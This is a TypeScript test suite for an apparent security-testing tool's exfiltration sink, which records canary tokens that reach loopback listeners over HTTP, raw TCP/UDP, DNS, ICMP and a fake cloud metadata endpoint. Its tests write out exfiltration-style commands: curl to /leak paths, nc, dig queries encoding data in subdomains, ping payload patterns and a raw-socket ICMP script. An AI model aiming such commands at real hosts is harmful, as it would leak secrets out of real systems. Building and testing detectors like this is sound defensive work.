import { createSocket } from 'node:dgram';
import { connect, createServer } from 'node:net';
import { execa } from 'execa';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { BadInputError } from '../../core/domain/errors.ts';
import { TIMEOUTS } from '../../core/timeouts.ts';
import { canaryPingPattern, newCanary } from './canary.ts';
import { freePort } from './free-port.ts';
import { SINK_SCRIPT, startSink, type SinkProcess } from './sink-process.ts';

const HOST = '127.0.0.1';
const ANSWER_IP = '192.0.2.10';

async function run(file: string, args: readonly string[], input?: string) {
  return execa(file, args, { reject: false, timeout: TIMEOUTS.scriptExecMs, ...(input === undefined ? {} : { input }) });
}

function processAlive(pid: number): boolean {
  try {
    process.kill(pid, 0);
    return true;
  } catch {
    return false;
  }
}

/** Bytes sent on a fresh TCP connection, then closed (garbage for the robustness checks). */
function sendTcp(port: number, data: Buffer): Promise<void> {
  return new Promise((resolve) => {
    const socket = connect({ host: HOST, port }, () => socket.end(data));
    socket.on('error', () => resolve());
    socket.on('close', () => resolve());
    socket.resume();
  });
}

function sendUdp(port: number, data: Buffer): Promise<void> {
  return new Promise((resolve, reject) => {
    const socket = createSocket('udp4');
    socket.send(data, port, HOST, (error) => {
      socket.close();
      if (error) reject(error);
      else resolve();
    });
  });
}

describe('exfiltration sink (real process, real traffic on loopback)', () => {
  let sink: SinkProcess;
  let ports: { http: number; tcp: number; udp: number; dns: number; query: number; metadata: number };

  beforeAll(async () => {
    ports = {
      http: await freePort(HOST),
      tcp: await freePort(HOST),
      udp: await freePort(HOST, { udpToo: true }),
      dns: await freePort(HOST, { udpToo: true }),
      query: await freePort(HOST),
      metadata: await freePort(HOST),
    };
    sink = await startSink({
      bind: HOST,
      httpPort: ports.http,
      tcpPort: ports.tcp,
      udpPort: ports.udp,
      dnsPort: ports.dns,
      queryPort: ports.query,
      metadataPort: ports.metadata,
      answerIp: ANSWER_IP,
    });
  });

  afterAll(async () => {
    await sink.stop();
    expect(processAlive(sink.pid)).toBe(false);
  });

  it('binds every listener on the ports it was given and answers its health check', async () => {
    expect(sink.ready.ports).toEqual(ports);
    expect(sink.ready.icmp).toBe(true);
    expect(sink.ready.zone).toBe('exfil.test');
    expect(await sink.client.healthy()).toBe(true);
  });

  it('listens with a backlog of 128 on its TCP listeners, so concurrent attempts never queue behind each other', async () => {
    for (const port of [ports.http, ports.tcp]) {
      // For a listening socket, ss reports the accept backlog in the Send-Q column.
      const listing = await run('ss', ['-Hltn', `sport = :${port}`]);
      expect(listing.stdout.trim().split(/\s+/)[2], `port ${port}`).toBe('128');
    }
  });

  it('records a canary in an HTTP path, once, with protocol, source and time', async () => {
    const canary = newCanary();
    const before = Date.now();
    const curl = await run('curl', ['-sS', '--max-time', String(TIMEOUTS.requestSeconds), `http://${HOST}:${ports.http}/leak/${canary}`]);
    expect(curl.exitCode).toBe(0);
    expect(curl.stdout).toBe('received');
    const records = await sink.client.received(canary);
    expect(records).toHaveLength(1);
    expect(records[0]).toMatchObject({ canary, protocol: 'http', from: HOST });
    const at = Date.parse(records[0]?.at ?? '');
    expect(at).toBeGreaterThanOrEqual(before - 1_000);
    expect(at).toBeLessThanOrEqual(Date.now() + 1_000);
  });

  it('records a canary in a header of any method, and in a body', async () => {
    const inHeader = newCanary();
    const inBody = newCanary();
    const header = await run('curl', ['-sS', '-X', 'PROPFIND', '-H', `X-Trace: ${inHeader}`, `http://${HOST}:${ports.http}/`]);
    expect(header.stdout).toBe('received');
    const body = await run('curl', ['-sS', '--data-binary', `token=${inBody}`, `http://${HOST}:${ports.http}/upload?x=1`]);
    expect(body.stdout).toBe('received');
    expect((await sink.client.received(inHeader)).map((r) => r.protocol)).toEqual(['http']);
    expect((await sink.client.received(inBody)).map((r) => r.protocol)).toEqual(['http']);
  });

  it('records a canary sent over raw TCP and answers ok', async () => {
    const canary = newCanary();
    const nc = await run('nc', ['-N', '-w', String(TIMEOUTS.connectSeconds), HOST, String(ports.tcp)], `${canary}\n`);
    expect(nc.exitCode).toBe(0);
    expect(nc.stdout.trim()).toBe('ok');
    expect(await sink.client.received(canary)).toEqual([expect.objectContaining({ canary, protocol: 'tcp', from: HOST })]);
  });

  it('records a canary sent in a UDP datagram', async () => {
    const canary = newCanary();
    const nc = await run('nc', ['-u', '-w', '1', HOST, String(ports.udp)], canary);
    expect(nc.exitCode).toBe(0);
    const records = await sink.client.waitFor(canary, TIMEOUTS.sinkSettleMs);
    expect(records).toEqual([expect.objectContaining({ canary, protocol: 'udp', from: HOST })]);
  });

  it('answers TXT `ok` under the zone and records the first label as the canary (UDP and TCP)', async () => {
    const overUdp = newCanary();
    const overTcp = newCanary();
    const dig = ['+short', `+time=${TIMEOUTS.dnsSeconds}`, '+tries=1', `@${HOST}`, '-p', String(ports.dns)];
    const udp = await run('dig', [...dig, `${overUdp}.exfil.test`, 'TXT']);
    expect(udp.stdout.trim()).toBe('"ok"');
    const tcp = await run('dig', [...dig, '+tcp', `${overTcp}.exfil.test`, 'TXT']);
    expect(tcp.stdout.trim()).toBe('"ok"');
    expect(await sink.client.received(overUdp)).toEqual([expect.objectContaining({ protocol: 'dns', from: HOST })]);
    expect(await sink.client.received(overTcp)).toEqual([expect.objectContaining({ protocol: 'dns', from: HOST })]);
  });

  it('answers A under the zone with --answer-ip, matches names case-insensitively, refuses other zones', async () => {
    const canary = newCanary();
    const dig = [`+time=${TIMEOUTS.dnsSeconds}`, '+tries=1', `@${HOST}`, '-p', String(ports.dns)];
    const a = await run('dig', [...dig, '+short', `${canary.toUpperCase().replace('BM', 'bm')}.deeper.EXFIL.test`, 'A']);
    expect(a.stdout.trim()).toBe(ANSWER_IP);
    expect(await sink.client.received(canary)).toEqual([expect.objectContaining({ canary, protocol: 'dns' })]);
    const outside = await run('dig', [...dig, 'example.com', 'A']);
    expect(outside.stdout).toContain('status: REFUSED');
    const aaaa = await run('dig', [...dig, 'www.exfil.test', 'AAAA']);
    expect(aaaa.stdout).toContain('status: NOERROR');
    expect(aaaa.stdout).toContain('ANSWER: 0');
  });

  it('records a canary carried by `ping -p <hex>` (raw ICMP socket; the kernel answers the echo)', async () => {
    const canary = newCanary();
    const ping = await run('ping', ['-c1', '-W', String(TIMEOUTS.connectSeconds), '-p', canaryPingPattern(canary), HOST]);
    expect(ping.exitCode).toBe(0);
    const records = await sink.client.waitFor(canary, TIMEOUTS.sinkSettleMs);
    // Only the echo request counts: the reply the kernel sends back on loopback is not a second record.
    expect(records).toEqual([expect.objectContaining({ canary, protocol: 'icmp', from: HOST })]);
  });

  it('records a canary written in ASCII in an ICMP payload', async () => {
    const canary = newCanary();
    // `ping -p` takes 16 pattern bytes at most and the ASCII canary is 18, so build the echo request by hand
    // with a raw socket, the way a tool with a free-form payload (e.g. `nping --data-string`) would.
    const script = [
      'import socket,struct,sys',
      'payload=sys.argv[1].encode()',
      'def csum(b):',
      '    b+=b"\\0"*(len(b)%2); s=sum(struct.unpack("!%dH"%(len(b)//2),b)); s=(s>>16)+(s&0xffff); s+=s>>16; return ~s&0xffff',
      'h=struct.pack("!BBHHH",8,0,0,0x4242,1)',
      'h=struct.pack("!BBHHH",8,0,csum(h+payload),0x4242,1)',
      's=socket.socket(socket.AF_INET,socket.SOCK_RAW,socket.IPPROTO_ICMP)',
      's.sendto(h+payload,(sys.argv[2],0))',
    ].join('\n');
    const sent = await run('python3', ['-c', script, `exfil:${canary}:end`, HOST]);
    expect(sent.exitCode).toBe(0);
    expect(await sink.client.waitFor(canary, TIMEOUTS.sinkSettleMs)).toEqual([
      expect.objectContaining({ canary, protocol: 'icmp', from: HOST }),
    ]);
  });

  it('emulates a cloud metadata endpoint and records canaries sent to it', async () => {
    const canary = newCanary();
    const role = await run('curl', ['-sS', '-H', `X-Canary: ${canary}`, `http://${HOST}:${ports.metadata}/latest/meta-data/`]);
    expect(role.stdout).toBe('breachmatrix-fake-role');
    const creds = await run('curl', ['-sS', `http://${HOST}:${ports.metadata}/latest/meta-data/iam/security-credentials/breachmatrix-fake-role`]);
    expect(JSON.parse(creds.stdout)).toMatchObject({ AccessKeyId: 'BREACHMATRIXFAKEKEY' });
    expect(await sink.client.received(canary)).toEqual([expect.objectContaining({ protocol: 'http' })]);
    // The stdout log names the listener, so a metadata hit is told apart from the HTTP sink.
    await expect.poll(() => sink.events()).toContainEqual(expect.objectContaining({ event: 'canary', canary, listener: 'metadata' }));
  });

  it('logs every record as a JSON line on stdout', async () => {
    const canary = newCanary();
    await run('curl', ['-sS', `http://${HOST}:${ports.http}/${canary}`]);
    await expect.poll(() => sink.events()).toContainEqual({ event: 'canary', canary, protocol: 'http', from: HOST, at: expect.any(String), listener: 'http' });
  });

  it('knows nothing of a canary that was never sent', async () => {
    const sent = newCanary();
    const unrelated = newCanary();
    await run('curl', ['-sS', `http://${HOST}:${ports.http}/${sent}`]);
    expect(await sink.client.received(sent)).toHaveLength(1);
    expect(await sink.client.received(unrelated)).toEqual([]);
    expect(await sink.client.waitFor(unrelated, 300)).toEqual([]);
  });

  it('reset clears every record', async () => {
    const canary = newCanary();
    await run('curl', ['-sS', `http://${HOST}:${ports.http}/${canary}`]);
    expect(await sink.client.received(canary)).toHaveLength(1);
    expect(await sink.client.reset()).toBeGreaterThanOrEqual(1);
    expect(await sink.client.received(canary)).toEqual([]);
    expect(await sink.client.reset()).toBe(0);
  });

  it('the query API rejects a malformed canary (400) and the client refuses it before asking', async () => {
    const response = await fetch(`${sink.client.baseUrl}/canaries/not-a-canary`);
    expect(response.status).toBe(400);
    await expect(sink.client.received('BM0123456789ABCDEF')).rejects.toBeInstanceOf(BadInputError);
  });

  it('survives malformed traffic on every listener', async () => {
    const garbage = Buffer.from([0xff, 0x00, 0xc0, 0x0c, 0xc0, 0x0c, 0x3f, 0x01, 0x02]);
    await sendUdp(ports.dns, garbage);
    await sendUdp(ports.dns, Buffer.alloc(3));
    // A header claiming one question whose name is a pointer to itself.
    await sendUdp(ports.dns, Buffer.from([0, 1, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0xc0, 0x0c, 0, 1, 0, 1]));
    await sendTcp(ports.dns, Buffer.from([0x00, 0x40, 0x01]));
    await sendTcp(ports.http, Buffer.from('NOT HTTP AT ALL\r\n\r\n'));
    await sendTcp(ports.http, Buffer.from('POST / HTTP/1.1\r\nContent-Length: 99999999\r\n\r\nshort'));
    await sendTcp(ports.tcp, Buffer.alloc(10_000, 0x41));
    await sendUdp(ports.udp, Buffer.alloc(0));
    await sendTcp(ports.query, Buffer.from('\x00\x01\x02'));

    expect(await sink.client.healthy()).toBe(true);
    const canary = newCanary();
    const dig = await run('dig', ['+short', '+tries=1', `@${HOST}`, '-p', String(ports.dns), `${canary}.exfil.test`, 'TXT']);
    expect(dig.stdout.trim()).toBe('"ok"');
    expect(await sink.client.received(canary)).toHaveLength(1);
  });
});

describe('sink start-up failures', () => {
  it('exits 3 naming the listener when a port is taken', async () => {
    const holder = createServer();
    await new Promise<void>((resolve) => holder.listen({ host: HOST, port: 0, exclusive: true }, resolve));
    const address = holder.address();
    const port = typeof address === 'object' && address !== null ? address.port : 0;
    try {
      const result = await run('python3', [SINK_SCRIPT, '--bind', HOST, '--http-port', String(port), '--no-icmp']);
      expect(result.exitCode).toBe(3);
      expect(result.stderr).toContain(`cannot open HTTP on ${HOST}:${port}`);
    } finally {
      await new Promise<void>((resolve) => holder.close(() => resolve()));
    }
  });

  it('exits 2 on a bad flag, and startSink reports it as an infrastructure error', async () => {
    const result = await run('python3', [SINK_SCRIPT, '--bind', 'not-an-ip']);
    expect(result.exitCode).toBe(2);
    expect(result.stderr).toContain("'not-an-ip' is not an IPv4 address");
    await expect(startSink({ bind: 'not-an-ip' })).rejects.toThrow(/sink: exited before ready/);
  });
});
